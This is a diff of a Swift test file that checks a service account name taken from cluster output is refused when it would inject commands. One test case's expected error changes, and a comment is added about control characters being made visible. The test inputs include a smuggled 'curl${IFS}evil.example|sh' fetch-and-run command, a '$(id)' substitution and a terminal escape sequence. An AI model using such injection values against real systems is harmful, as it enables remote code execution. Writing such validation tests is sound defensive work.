@@ -63,7 +63,9 @@ struct OutputValueTests {
         ("default;curl${IFS}evil.example|sh", "contains ';'"),
         ("default $(id)", "contains ' '"),
         ("Default", "contains upper-case letters"),
-        ("default\u{1B}]0;owned\u{07}", "contains a control character"),
+        // The session keeps output with its control characters made visible, so the escape arrives
+        // as the text `\u{1B}` and is refused at its backslash.
+        ("default\u{1B}]0;owned\u{07}", "contains '\\'"),
     ])
     func aServiceAccountNameFromClusterOutputThatWouldInjectIsRefused(name: String, problem: String) throws {
         let session = try session(serviceAccount: name)
